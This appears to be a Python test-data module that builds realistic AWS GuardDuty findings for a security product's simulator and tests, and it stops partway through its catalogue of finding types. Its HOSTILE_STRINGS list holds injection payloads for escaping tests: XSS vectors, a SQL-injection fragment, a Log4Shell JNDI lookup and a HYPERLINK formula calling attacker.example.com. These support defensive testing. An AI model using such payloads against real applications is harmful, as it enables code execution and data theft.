"""Realistic GuardDuty findings for the simulator, demos and tests.

GuardDuty is never reachable from development or CI, so everything that handles findings is
exercised with findings built here. They follow botocore's `Finding` output shape member for
member (tests validate every catalogue type against the model) and carry the finding types,
severities, titles and resource blocks the GuardDuty user guide documents.

Pure Python on purpose: no Django, no botocore at import time, so the simulator server, bench
scripts and tests can all use it.

Why one long module: most of its length is the catalogue itself, one `_t(...)` entry per finding type
GuardDuty documents, with the builders that turn an entry into a finding; split, a type's table row
and the builder its resource block needs would live apart.

Spelling choices, checked against botocore's model:
- `build_finding` returns what boto3's `GetFindings` returns: PascalCase member names, top-level
  times as ISO-8601 strings (the model types them as strings), and members the model types as
  `timestamp` (e.g. `S3BucketDetails[].CreatedAt`, `RuntimeDetails.Process.StartTime`) as aware
  `datetime` objects, because that is what botocore hands back for them.
- `to_camel_case` produces the JSON GuardDuty itself writes (wire responses, EventBridge events,
  S3 exports): every key is the member's `locationName`. That is lowerCamel of the member name
  except for the handful of renamed members in `_RENAMED_KEYS`; map members keep their data keys;
  `timestamp` members become epoch seconds (rest-json's default wire format).
  `Service.AdditionalInfo.Value` stays a JSON *string* in both spellings, as current GuardDuty
  findings carry it (`{"value": "{\"sample\":true}", "type": "default"}`).
- Remote actors use only documentation addresses (192.0.2.0/24 for the customer's own hosts,
  198.51.100.0/24 and 203.0.113.0/24 for remote actors, 2001:db8::/32), documentation ASNs
  (64496-64511) and example domains, so nothing generated here points at a real host.
"""

# Runtime findings describe files on an attacker's host (/tmp/payload, /dev/shm/injector): they are
# data in a finding, never paths this module opens, so bandit's temp-file rule does not apply.
# ruff: noqa: S108

from __future__ import annotations

import copy
import hashlib
import json
import random
import uuid
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

__all__ = [
    "ACTION_TYPES",
    "DEFAULT_BAND_WEIGHTS",
    "FINDING_TYPES",
    "HOSTILE_STRINGS",
    "PSEUDO_ACTION_TYPES",
    "RESOURCE_TYPES",
    "FindingType",
    "build_attack_sequence",
    "build_finding",
    "sequence_signal_types",
    "random_finding_type",
    "remote_ip_details",
    "repeat_occurrence",
    "severity_band",
    "to_camel_case",
    "to_eventbridge_event",
]

# `Service.Action.ActionType` values GuardDuty uses.
NETWORK_CONNECTION = "NETWORK_CONNECTION"
PORT_PROBE = "PORT_PROBE"
AWS_API_CALL = "AWS_API_CALL"
DNS_REQUEST = "DNS_REQUEST"
KUBERNETES_API_CALL = "KUBERNETES_API_CALL"
RDS_LOGIN_ATTEMPT = "RDS_LOGIN_ATTEMPT"
ACTION_TYPES = (NETWORK_CONNECTION, PORT_PROBE, AWS_API_CALL, DNS_REQUEST, KUBERNETES_API_CALL, RDS_LOGIN_ATTEMPT)

# Findings without `Service.Action`: the evidence lives in another Service member. These names are
# GuardWatch's, not GuardDuty's; `findings.parsing` derives the same names from the same members.
RUNTIME = "RUNTIME"  # Service.RuntimeDetails
MALWARE_SCAN = "MALWARE_SCAN"  # Service.EbsVolumeScanDetails / Service.MalwareScanDetails
ATTACK_SEQUENCE = "ATTACK_SEQUENCE"  # Service.Detection.Sequence
PSEUDO_ACTION_TYPES = (RUNTIME, MALWARE_SCAN, ATTACK_SEQUENCE)

# Malware Protection for Backup findings carry EbsSnapshotDetails, Ec2ImageDetails or RecoveryPointDetails
# (botocore's Resource shape), but AWS documents no `Resource.ResourceType` value for them (the finding
# details page lists Instance, AccessKey, S3Bucket, S3Object, Kubernetes cluster, ECS cluster, Container,
# RDSDBInstance, RDSLimitlessDB, Lambda). These names are the simulator's, after the details block; the
# product reads these findings by their block, never by this name.
BACKUP_RESOURCE_TYPES = ("EBSSnapshot", "EC2Image", "RecoveryPoint")

RESOURCE_TYPES = (
    "Instance",
    "AccessKey",
    "S3Bucket",
    "S3Object",
    "EKSCluster",
    "KubernetesCluster",
    "ECSCluster",
    "Container",
    "RDSDBInstance",
    "Lambda",
    "RDSLimitlessDB",
    *BACKUP_RESOURCE_TYPES,
)

# Attacker-controlled strings for escaping tests. The NUL byte is deliberate: PostgreSQL rejects
# it in text and jsonb, so storage code has to cope with it too.
HOSTILE_STRINGS = (
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "'; DROP TABLE--",
    "${jndi:ldap://attacker.example.com/a}",
    "=HYPERLINK(\"http://attacker.example.com\",\"open\")",
    "</textarea><svg onload=alert(1)>",
    "nul\x00byte",
)

DEFAULT_BAND_WEIGHTS: Mapping[str, float] = {"low": 40.0, "medium": 38.0, "high": 20.0, "critical": 2.0}


def severity_band(severity: float) -> str:
    """GuardDuty's band for a severity: low < 4.0 <= medium < 7.0 <= high < 9.0 <= critical."""
    if severity < 4.0:
        return "low"
    if severity < 7.0:
        return "medium"
    if severity < 9.0:
        return "high"
    return "critical"


@dataclass(frozen=True, slots=True)
class FindingType:
    """One GuardDuty finding type and how the simulator dresses a finding of it.

    `title` and `description` are `str.format` templates over the names the builder fills in
    (`instance_id`, `target`, `remote_ip`, `api`, `bucket`, `user`, ...). `params` tunes the
    action: connection direction/port, API name, DNS domain kind, Kubernetes verb/URI, runtime
    behaviour.
    """

    name: str
    resource_type: str
    severity: float
    action_type: str
    feature: str
    title: str
    description: str
    runtime: bool = False
    params: Mapping[str, Any] = field(default_factory=dict)

    @property
    def band(self) -> str:
        """The severity band of the type's typical severity."""
        return severity_band(self.severity)


def _t(name, resource_type, severity, action_type, feature, title, description, *, runtime=False, **params):
    return FindingType(name, resource_type, severity, action_type, feature, title, description, runtime, params)


_EC2_TARGET = "EC2 instance {instance_id}"

_CATALOGUE = (
    # --- EC2: VPC flow logs and DNS logs -------------------------------------------------------
    _t("Backdoor:EC2/C&CActivity.B!DNS", "Instance", 8.0, DNS_REQUEST, "DnsLogs",
       "Command and Control server domain name queried by EC2 instance {instance_id}.",
       "EC2 instance {instance_id} is querying a domain name associated with a known Command & Control "
       "server. This instance may be compromised.", domain="c2", threat_list="ProofPoint"),
    _t("Backdoor:EC2/DenialOfService.Tcp", "Instance", 8.0, NETWORK_CONNECTION, "FlowLogs",
       "EC2 instance {instance_id} is behaving in a manner that may indicate it is being used to perform a "
       "Denial of Service (DoS) attack using TCP protocol.",
       "EC2 instance {instance_id} is sending a large volume of TCP traffic to remote host {remote_ip}. "
       "This may indicate the instance is compromised and used in a DoS attack.",
       direction="OUTBOUND", port=80, role="ACTOR"),
    _t("Backdoor:EC2/DenialOfService.Udp", "Instance", 8.0, NETWORK_CONNECTION, "FlowLogs",
       "EC2 instance {instance_id} is behaving in a manner that may indicate it is being used to perform a "
       "Denial of Service (DoS) attack using UDP protocol.",
       "EC2 instance {instance_id} is sending a large volume of UDP traffic to remote host {remote_ip}.",
       direction="OUTBOUND", port=53, protocol="UDP", role="ACTOR"),
    _t("Behavior:EC2/NetworkPortUnusual", "Instance", 5.0, NETWORK_CONNECTION, "FlowLogs",
       "Unusual outbound communication seen from EC2 instance {instance_id} on server port {port}.",
       "EC2 instance {instance_id} is communicating with a remote host {remote_ip} on an unusual server "
       "port {port}.", direction="OUTBOUND", port=9999),
    _t("Behavior:EC2/TrafficVolumeUnusual", "Instance", 5.0, NETWORK_CONNECTION, "FlowLogs",
       "Unusual amount of network traffic from EC2 instance {instance_id} to remote host {remote_ip}.",
       "EC2 instance {instance_id} is generating unusually large amounts of network traffic to remote "
       "host {remote_ip}.", direction="OUTBOUND", port=443),
    _t("CryptoCurrency:EC2/BitcoinTool.B", "Instance", 8.0, NETWORK_CONNECTION, "FlowLogs",
       "EC2 instance {instance_id} is communicating with Bitcoin mining pools.",
       "EC2 instance {instance_id} is communicating with IP address {remote_ip} that is associated with "
       "Bitcoin-related activity.", direction="OUTBOUND", port=3333, threat_list="Amazon"),
    _t("CryptoCurrency:EC2/BitcoinTool.B!DNS", "Instance", 8.0, DNS_REQUEST, "DnsLogs",
       "Bitcoin-related domain name queried by EC2 instance {instance_id}.",
       "EC2 instance {instance_id} is querying a domain name that is associated with Bitcoin-related "
       "activity.", domain="mining", threat_list="Amazon"),
    _t("Impact:EC2/AbusedDomainRequest.Reputation", "Instance", 5.0, DNS_REQUEST, "DnsLogs",
       "EC2 instance {instance_id} is querying a low reputation domain name that is associated with "
       "known abused domains.",
       "EC2 instance {instance_id} is querying {domain}, a domain with a low reputation score.",
       domain="abused"),
    _t("Impact:EC2/MaliciousDomainRequest.Reputation", "Instance", 8.0, DNS_REQUEST, "DnsLogs",
       "EC2 instance {instance_id} is querying a low reputation domain name that is associated with "
       "known malicious domains.",
       "EC2 instance {instance_id} is querying {domain}, a domain known to be used for malicious "
       "activity.", domain="malicious"),
    _t("Impact:EC2/PortSweep", "Instance", 8.0, NETWORK_CONNECTION, "FlowLogs",
       "EC2 instance {instance_id} is performing a port sweep on port {port} of a large number of remote "
       "hosts.",
       "EC2 instance {instance_id} is probing port {port} on a large number of IP addresses. This may "
       "indicate the instance is compromised.", direction="OUTBOUND", port=445, role="ACTOR"),
    _t("Recon:EC2/PortProbeUnprotectedPort", "Instance", 2.0, PORT_PROBE, "FlowLogs",
       "Unprotected port on EC2 instance {instance_id} is being probed.",
       "EC2 instance has an unprotected port {port} which is being probed by a known malicious host.",
       port=22, threat_list="ProofPoint"),
    _t("Recon:EC2/Portscan", "Instance", 5.0, NETWORK_CONNECTION, "FlowLogs",
       "EC2 instance {instance_id} is performing outbound port scans against remote host {remote_ip}.",
       "EC2 instance {instance_id} is performing outbound port scans against remote host {remote_ip}. "
       "This may indicate the instance is compromised.", direction="OUTBOUND", port=22, role="ACTOR"),
    _t("Trojan:EC2/BlackholeTraffic", "Instance", 5.0, NETWORK_CONNECTION, "FlowLogs",
       "EC2 instance {instance_id} is attempting to communicate with a black hole IP address {remote_ip}.",
       "EC2 instance {instance_id} is attempting to communicate with IP address {remote_ip} of a remote "
       "host that is known to be a black hole.", direction="OUTBOUND", port=443, threat_list="Amazon"),
    _t("Trojan:EC2/DNSDataExfiltration", "Instance", 8.0, DNS_REQUEST, "DnsLogs",
       "Data exfiltration through DNS queries from EC2 instance {instance_id}.",
       "EC2 instance {instance_id} is attempting to exfiltrate data by encoding it within DNS queries.",
       domain="exfil"),
    _t("Trojan:EC2/DropPoint!DNS", "Instance", 5.0, DNS_REQUEST, "DnsLogs",
       "EC2 instance {instance_id} is querying a domain name of a remote host that is known to hold "
       "credentials and other stolen data captured by malware.",
       "EC2 instance {instance_id} is querying {domain}, a known drop point for stolen data.",
       domain="droppoint", threat_list="ProofPoint"),
    _t("UnauthorizedAccess:EC2/MaliciousIPCaller.Custom", "Instance", 5.0, NETWORK_CONNECTION, "FlowLogs",
       "Outbound communication with IP address {remote_ip} on a custom threat list from EC2 instance "
       "{instance_id}.",
       "EC2 instance {instance_id} is communicating outbound with IP address {remote_ip} which is on the "
       "custom threat list.", direction="OUTBOUND", port=443, threat_list="CustomThreatList"),
    _t("UnauthorizedAccess:EC2/MetadataDNSRebind", "Instance", 8.0, DNS_REQUEST, "DnsLogs",
       "EC2 instance {instance_id} is querying a domain that resolves to the EC2 metadata IP address.",
       "EC2 instance {instance_id} is querying {domain}, which resolves to the instance metadata service. "
       "This can be used to obtain the instance's IAM credentials.", domain="rebind"),
    _t("UnauthorizedAccess:EC2/RDPBruteForce", "Instance", 2.0, NETWORK_CONNECTION, "FlowLogs",
       "{remote_ip} is performing RDP brute force attacks against {instance_id}.",
       "{remote_ip} is performing RDP brute force attacks against {instance_id}. Brute force attacks are "
       "used to gain unauthorized access to your instance by guessing the RDP password.",
       direction="INBOUND", port=3389),
    _t("UnauthorizedAccess:EC2/SSHBruteForce", "Instance", 2.0, NETWORK_CONNECTION, "FlowLogs",
       "{remote_ip} is performing SSH brute force attacks against {instance_id}.",
       "{remote_ip} is performing SSH brute force attacks against {instance_id}. Brute force attacks are "
       "used to gain unauthorized access to your instance by guessing the SSH password.",
       direction="INBOUND", port=22),
    _t("UnauthorizedAccess:EC2/TorClient", "Instance", 8.0, NETWORK_CONNECTION, "FlowLogs",
       "EC2 instance {instance_id} is communicating with Tor Entry node.",
       "EC2 instance {instance_id} is communicating with IP address {remote_ip} which is a Tor Entry "
       "node.", direction="OUTBOUND", port=9001, actor="tor", threat_list="TorEntryNodes"),
    # --- IAM: CloudTrail management events --------------------------------------------------------
    _t("CredentialAccess:IAMUser/AnomalousBehavior", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to access credentials in an anomalous way.",
       "APIs commonly used in CredentialAccess tactics were invoked by user {user} under unusual "
       "circumstances.", api="GetSecretValue", service="secretsmanager.amazonaws.com"),
    _t("DefenseEvasion:IAMUser/AnomalousBehavior", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to evade defensive measures in an anomalous way.",
       "APIs commonly used in DefenseEvasion tactics were invoked by user {user} under unusual "
       "circumstances.", api="DeleteFlowLogs", service="ec2.amazonaws.com"),
    _t("Discovery:IAMUser/AnomalousBehavior", "AccessKey", 2.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to gain information about the environment in an anomalous way.",
       "APIs commonly used in Discovery tactics were invoked by user {user} under unusual circumstances.",
       api="ListBuckets", service="s3.amazonaws.com"),
    _t("Exfiltration:IAMUser/AnomalousBehavior", "AccessKey", 8.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to collect data in an anomalous way.",
       "APIs commonly used in Exfiltration tactics were invoked by user {user} under unusual "
       "circumstances.", api="PutBucketReplication", service="s3.amazonaws.com"),
    _t("Impact:IAMUser/AnomalousBehavior", "AccessKey", 8.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to tamper with data or processes in an anomalous way.",
       "APIs commonly used in Impact tactics were invoked by user {user} under unusual circumstances.",
       api="DeleteSecurityGroup", service="ec2.amazonaws.com"),
    _t("InitialAccess:IAMUser/AnomalousBehavior", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to gain unauthorized access in an anomalous way.",
       "APIs commonly used in InitialAccess tactics were invoked by user {user} under unusual "
       "circumstances.", api="GetFederationToken", service="sts.amazonaws.com"),
    _t("Persistence:IAMUser/AnomalousBehavior", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to maintain access in an anomalous way.",
       "APIs commonly used in Persistence tactics were invoked by user {user} under unusual "
       "circumstances.", api="CreateAccessKey", service="iam.amazonaws.com"),
    _t("PrivilegeEscalation:IAMUser/AnomalousBehavior", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "The API {api} was used to gain elevated permissions in an anomalous way.",
       "APIs commonly used in PrivilegeEscalation tactics were invoked by user {user} under unusual "
       "circumstances.", api="AttachUserPolicy", service="iam.amazonaws.com"),
    _t("PenTest:IAMUser/KaliLinux", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "API {api} was invoked from a Kali Linux computer.",
       "API {api} was invoked by user {user} from a Kali Linux computer with IP address {remote_ip}.",
       api="DescribeInstances", service="ec2.amazonaws.com", agent="kali"),
    _t("Policy:IAMUser/RootCredentialUsage", "AccessKey", 2.0, AWS_API_CALL, "CloudTrail",
       "API {api} was invoked using root credentials.",
       "API {api} was invoked using root credentials from IP address {remote_ip}.",
       api="ListUsers", service="iam.amazonaws.com", user_type="Root"),
    _t("Recon:IAMUser/MaliciousIPCaller", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "Reconnaissance API {api} was invoked from a known malicious IP address.",
       "API {api}, commonly used in reconnaissance attacks, was invoked from IP address {remote_ip} on "
       "a threat list.", api="GetAccountAuthorizationDetails", service="iam.amazonaws.com",
       threat_list="ProofPoint"),
    _t("Stealth:IAMUser/CloudTrailLoggingDisabled", "AccessKey", 2.0, AWS_API_CALL, "CloudTrail",
       "AWS CloudTrail trail {trail} was disabled.",
       "AWS CloudTrail trail {trail} was disabled by user {user} calling {api}.",
       api="StopLogging", service="cloudtrail.amazonaws.com"),
    _t("Stealth:IAMUser/PasswordPolicyChange", "AccessKey", 2.0, AWS_API_CALL, "CloudTrail",
       "Account password policy was weakened.",
       "The account password policy was weakened by user {user} calling {api}.",
       api="UpdateAccountPasswordPolicy", service="iam.amazonaws.com"),
    _t("UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "Unusual console login was seen for principal {user}.",
       "Principal {user} successfully logged in to the AWS Management Console from IP address "
       "{remote_ip}, which is unusual for this principal.", api="ConsoleLogin",
       service="signin.amazonaws.com", agent="browser"),
    _t("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS", "AccessKey", 8.0,
       AWS_API_CALL, "CloudTrail",
       "Credentials for instance role {user} used from a different AWS account.",
       "Credentials created exclusively for an EC2 instance using instance role {user} have been used "
       "from a different AWS account.", api="DescribeInstances", service="ec2.amazonaws.com",
       user_type="AssumedRole", caller="Remote account"),
    _t("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "AccessKey", 8.0,
       AWS_API_CALL, "CloudTrail",
       "Credentials for instance role {user} used from external IP address.",
       "Credentials created exclusively for an EC2 instance using instance role {user} have been used "
       "from external IP address {remote_ip}.", api="DescribeInstances", service="ec2.amazonaws.com",
       user_type="AssumedRole"),
    _t("UnauthorizedAccess:IAMUser/TorIPCaller", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "API {api} was invoked from a Tor exit node IP address.",
       "API {api} was invoked by user {user} from Tor exit node IP address {remote_ip}.",
       api="ListRoles", service="iam.amazonaws.com", actor="tor", threat_list="TorExitNodes"),
    # --- S3: data events and bucket-level management events ---------------------------------------
    _t("Discovery:S3/MaliciousIPCaller", "S3Bucket", 8.0, AWS_API_CALL, "S3DataEvents",
       "S3 API {api} was invoked from a known malicious IP address.",
       "API {api} was invoked on S3 bucket {bucket} from IP address {remote_ip}, which is on a threat "
       "list.", api="ListObjects", service="s3.amazonaws.com", threat_list="ProofPoint"),
    _t("Exfiltration:S3/AnomalousBehavior", "S3Bucket", 8.0, AWS_API_CALL, "S3DataEvents",
       "Anomalous S3 API {api} was invoked to retrieve data from S3 bucket {bucket}.",
       "An IAM entity invoked an S3 API in a suspicious way: user {user} read an unusual number of "
       "objects from S3 bucket {bucket}.", api="GetObject", service="s3.amazonaws.com"),
    _t("Exfiltration:S3/MaliciousIPCaller", "S3Bucket", 8.0, AWS_API_CALL, "S3DataEvents",
       "S3 API {api} was invoked from a known malicious IP address to retrieve data.",
       "API {api} was invoked on S3 bucket {bucket} from IP address {remote_ip}, which is on a threat "
       "list.", api="GetObject", service="s3.amazonaws.com", threat_list="ProofPoint"),
    _t("Impact:S3/AnomalousBehavior.Delete", "S3Bucket", 8.0, AWS_API_CALL, "S3DataEvents",
       "Anomalous S3 API {api} was invoked to delete data from S3 bucket {bucket}.",
       "User {user} invoked S3 API {api} in a suspicious way, deleting an unusual number of objects "
       "from S3 bucket {bucket}.", api="DeleteObjects", service="s3.amazonaws.com"),
    _t("Impact:S3/AnomalousBehavior.Permission", "S3Bucket", 8.0, AWS_API_CALL, "S3DataEvents",
       "Anomalous S3 API {api} was invoked to change permissions on S3 bucket {bucket}.",
       "User {user} invoked S3 API {api} in a suspicious way, changing access control lists of objects "
       "in S3 bucket {bucket}.", api="PutObjectAcl", service="s3.amazonaws.com"),
    _t("PenTest:S3/KaliLinux", "S3Bucket", 5.0, AWS_API_CALL, "S3DataEvents",
       "S3 API {api} was invoked from a Kali Linux computer.",
       "API {api} was invoked on S3 bucket {bucket} by user {user} from a Kali Linux computer.",
       api="ListObjects", service="s3.amazonaws.com", agent="kali"),
    _t("Policy:S3/BucketAnonymousAccessGranted", "S3Bucket", 8.0, AWS_API_CALL, "CloudTrail",
       "Anonymous access granted to S3 bucket {bucket}.",
       "User {user} granted anonymous access to S3 bucket {bucket} by calling {api}.",
       api="PutBucketPolicy", service="s3.amazonaws.com", public=True),
    _t("Policy:S3/BucketBlockPublicAccessDisabled", "S3Bucket", 2.0, AWS_API_CALL, "CloudTrail",
       "Amazon S3 Block Public Access was disabled for S3 bucket {bucket}.",
       "Amazon S3 Block Public Access was disabled for S3 bucket {bucket} by user {user}. If this "
       "behavior is unexpected, bucket permissions should be reviewed.",
       api="PutBucketPublicAccessBlock", service="s3.amazonaws.com"),
    _t("Policy:S3/BucketPublicAccessGranted", "S3Bucket", 8.0, AWS_API_CALL, "CloudTrail",
       "Public access granted to S3 bucket {bucket}.",
       "User {user} granted public access to S3 bucket {bucket} by calling {api}.",
       api="PutBucketAcl", service="s3.amazonaws.com", public=True),
    _t("Stealth:S3/ServerAccessLoggingDisabled", "S3Bucket", 2.0, AWS_API_CALL, "CloudTrail",
       "S3 server access logging was disabled for bucket {bucket}.",
       "User {user} disabled server access logging for S3 bucket {bucket}.",
       api="PutBucketLogging", service="s3.amazonaws.com"),
    _t("UnauthorizedAccess:S3/TorIPCaller", "S3Bucket", 8.0, AWS_API_CALL, "S3DataEvents",
       "S3 API {api} was invoked from a Tor exit node IP address.",
       "API {api} was invoked on S3 bucket {bucket} from Tor exit node IP address {remote_ip}.",
       api="GetObject", service="s3.amazonaws.com", actor="tor", threat_list="TorExitNodes"),
    # --- EKS Protection: Kubernetes audit logs -----------------------------------------------------
    _t("CredentialAccess:Kubernetes/MaliciousIPCaller", "EKSCluster", 8.0, KUBERNETES_API_CALL,
       "EksAuditLogs",
       "Kubernetes API commonly used in CredentialAccess tactics invoked from a known malicious IP "
       "address.",
       "Kubernetes API {verb} {request_uri} was invoked on EKS cluster {cluster} from IP address "
       "{remote_ip}, which is on a threat list.", verb="get",
       uri="/api/v1/namespaces/kube-system/secrets/aws-auth-token", k8s_resource="secrets",
       namespace="kube-system", threat_list="ProofPoint"),
    _t("Discovery:Kubernetes/MaliciousIPCaller", "EKSCluster", 5.0, KUBERNETES_API_CALL, "EksAuditLogs",
       "Kubernetes API commonly used in Discovery tactics invoked from a known malicious IP address.",
       "Kubernetes API {verb} {request_uri} was invoked on EKS cluster {cluster} from IP address "
       "{remote_ip}, which is on a threat list.", verb="list", uri="/api/v1/pods", k8s_resource="pods",
       threat_list="ProofPoint"),
    _t("Discovery:Kubernetes/SuccessfulAnonymousAccess", "EKSCluster", 5.0, KUBERNETES_API_CALL,
       "EksAuditLogs",
       "Kubernetes API commonly used in Discovery tactics was successfully invoked by the "
       "system:anonymous user.",
       "Kubernetes API {verb} {request_uri} was invoked on EKS cluster {cluster} by an unauthenticated "
       "user.", verb="list", uri="/api/v1/namespaces", k8s_resource="namespaces", k8s_user="anonymous"),
    _t("Execution:Kubernetes/ExecInKubeSystemPod", "EKSCluster", 5.0, KUBERNETES_API_CALL, "EksAuditLogs",
       "Command executed inside a pod in the kube-system namespace.",
       "A command was executed inside pod {pod} in the kube-system namespace of EKS cluster {cluster}.",
       verb="create", uri="/api/v1/namespaces/kube-system/pods/{pod}/exec?command=sh&stdin=true&tty=true",
       k8s_resource="pods", subresource="exec", namespace="kube-system"),
    _t("Impact:Kubernetes/MaliciousIPCaller", "EKSCluster", 8.0, KUBERNETES_API_CALL, "EksAuditLogs",
       "Kubernetes API commonly used in Impact tactics invoked from a known malicious IP address.",
       "Kubernetes API {verb} {request_uri} was invoked on EKS cluster {cluster} from IP address "
       "{remote_ip}, which is on a threat list.", verb="delete",
       uri="/apis/apps/v1/namespaces/default/deployments/payments-api", k8s_resource="deployments",
       namespace="default", threat_list="ProofPoint"),
    _t("Persistence:Kubernetes/ContainerWithSensitiveMount", "EKSCluster", 5.0, KUBERNETES_API_CALL,
       "EksAuditLogs",
       "Container launched with a sensitive external host path mounted inside.",
       "A workload {pod} was launched on EKS cluster {cluster} with a container that mounts the host "
       "path / with write access.", verb="create", uri="/api/v1/namespaces/default/pods",
       k8s_resource="pods", namespace="default", workload="sensitive_mount"),
    _t("Policy:Kubernetes/AdminAccessToDefaultServiceAccount", "EKSCluster", 8.0, KUBERNETES_API_CALL,
       "EksAuditLogs",
       "Default service account granted admin privileges on a Kubernetes cluster.",
       "The default service account in namespace default of EKS cluster {cluster} was bound to the "
       "cluster-admin role.", verb="create",
       uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", k8s_resource="clusterrolebindings"),
    _t("Policy:Kubernetes/AnonymousAccessGranted", "EKSCluster", 8.0, KUBERNETES_API_CALL, "EksAuditLogs",
       "The system:anonymous user was granted permissions on a Kubernetes cluster.",
       "A role binding on EKS cluster {cluster} granted the system:anonymous user permissions.",
       verb="create", uri="/apis/rbac.authorization.k8s.io/v1/namespaces/default/rolebindings",
       k8s_resource="rolebindings", namespace="default"),
    _t("Policy:Kubernetes/ExposedDashboard", "EKSCluster", 5.0, KUBERNETES_API_CALL, "EksAuditLogs",
       "Kubernetes dashboard exposed to the internet.",
       "The Kubernetes dashboard of EKS cluster {cluster} was exposed to the internet through a "
       "LoadBalancer service.", verb="create",
       uri="/api/v1/namespaces/kubernetes-dashboard/services", k8s_resource="services",
       namespace="kubernetes-dashboard"),
    _t("PrivilegeEscalation:Kubernetes/PrivilegedContainer", "EKSCluster", 5.0, KUBERNETES_API_CALL,
       "EksAuditLogs",
       "Privileged container with root level access launched on the Kubernetes cluster.",
       "A privileged container {container} was launched in workload {pod} on EKS cluster {cluster}.",
       verb="create", uri="/api/v1/namespaces/default/pods", k8s_resource="pods", namespace="default",
       workload="privileged"),
    _t("UnauthorizedAccess:Kubernetes/TorIPCaller", "EKSCluster", 8.0, KUBERNETES_API_CALL, "EksAuditLogs",
       "Kubernetes API invoked from a Tor exit node IP address.",
       "Kubernetes API {verb} {request_uri} was invoked on EKS cluster {cluster} from Tor exit node IP "
       "address {remote_ip}.", verb="get", uri="/api/v1/namespaces/default/configmaps",
       k8s_resource="configmaps", namespace="default", actor="tor", threat_list="TorExitNodes"),
    # --- RDS Protection: Aurora login events -------------------------------------------------------
    _t("CredentialAccess:RDS/AnomalousBehavior.FailedLogin", "RDSDBInstance", 2.0, RDS_LOGIN_ATTEMPT,
       "RdsLoginEvents",
       "Unusual failed login attempts were observed on database instance {db}.",
       "One or more unusual failed login attempts were observed for user {db_user} on database "
       "instance {db} from IP address {remote_ip}.", login="failed"),
    _t("CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce", "RDSDBInstance", 8.0,
       RDS_LOGIN_ATTEMPT, "RdsLoginEvents",
       "A successful login after a series of failed login attempts was observed on database instance "
       "{db}.",
       "User {db_user} logged in to database instance {db} from IP address {remote_ip} after an "
       "unusual series of failed attempts.", login="bruteforce"),
    _t("CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin", "RDSDBInstance", 8.0, RDS_LOGIN_ATTEMPT,
       "RdsLoginEvents",
       "An unusual successful login was observed on database instance {db}.",
       "User {db_user} successfully logged in to database instance {db} from IP address {remote_ip} in "
       "an anomalous way.", login="success"),
    # RDS Protection also watches Aurora Limitless databases: resource type RDSLimitlessDB, details in
    # Resource.RdsLimitlessDbDetails (GuardDuty User Guide, "Finding details"; API reference,
    # RdsLimitlessDbDetails). One type of the family is dressed as a Limitless database.
    _t("CredentialAccess:RDS/MaliciousIPCaller.FailedLogin", "RDSLimitlessDB", 5.0, RDS_LOGIN_ATTEMPT,
       "RdsLoginEvents",
       "Failed login attempts from a known malicious IP address to database instance {db}.",
       "IP address {remote_ip}, which is on a threat list, failed to log in to database instance {db}.",
       login="failed", threat_list="ProofPoint"),
    _t("CredentialAccess:RDS/MaliciousIPCaller.SuccessfulLogin", "RDSDBInstance", 8.0, RDS_LOGIN_ATTEMPT,
       "RdsLoginEvents",
       "A successful login from a known malicious IP address to database instance {db}.",
       "IP address {remote_ip}, which is on a threat list, successfully logged in to database instance "
       "{db} as user {db_user}.", login="success", threat_list="ProofPoint"),
    _t("CredentialAccess:RDS/TorIPCaller.FailedLogin", "RDSDBInstance", 5.0, RDS_LOGIN_ATTEMPT,
       "RdsLoginEvents",
       "Failed login attempts from a Tor exit node IP address to database instance {db}.",
       "Tor exit node IP address {remote_ip} failed to log in to database instance {db}.",
       login="failed", actor="tor", threat_list="TorExitNodes"),
    _t("CredentialAccess:RDS/TorIPCaller.SuccessfulLogin", "RDSDBInstance", 8.0, RDS_LOGIN_ATTEMPT,
       "RdsLoginEvents",
       "A successful login from a Tor exit node IP address to database instance {db}.",
       "Tor exit node IP address {remote_ip} successfully logged in to database instance {db} as user "
       "{db_user}.", login="success", actor="tor", threat_list="TorExitNodes"),
    _t("Discovery:RDS/MaliciousIPCaller", "RDSDBInstance", 5.0, RDS_LOGIN_ATTEMPT, "RdsLoginEvents",
       "A known malicious IP address probed database instance {db}.",
       "IP address {remote_ip}, which is on a threat list, probed database instance {db} without "
       "attempting to log in.", login="probe", threat_list="ProofPoint"),
    # --- Lambda Protection: network activity of functions ------------------------------------------
    _t("Backdoor:Lambda/C&CActivity.B", "Lambda", 8.0, NETWORK_CONNECTION, "LambdaNetworkLogs",
       "Lambda function {function} is communicating with a known Command & Control server.",
       "Lambda function {function} is communicating with IP address {remote_ip} of a known Command & "
       "Control server.", direction="OUTBOUND", port=443, threat_list="ProofPoint"),
    _t("CryptoCurrency:Lambda/BitcoinTool.B", "Lambda", 8.0, NETWORK_CONNECTION, "LambdaNetworkLogs",
       "Lambda function {function} is communicating with Bitcoin mining pools.",
       "Lambda function {function} is communicating with IP address {remote_ip} that is associated with "
       "Bitcoin-related activity.", direction="OUTBOUND", port=3333, threat_list="Amazon"),
    _t("Trojan:Lambda/BlackholeTraffic", "Lambda", 5.0, NETWORK_CONNECTION, "LambdaNetworkLogs",
       "Lambda function {function} is attempting to communicate with a black hole IP address.",
       "Lambda function {function} is attempting to communicate with black hole IP address {remote_ip}.",
       direction="OUTBOUND", port=80, threat_list="Amazon"),
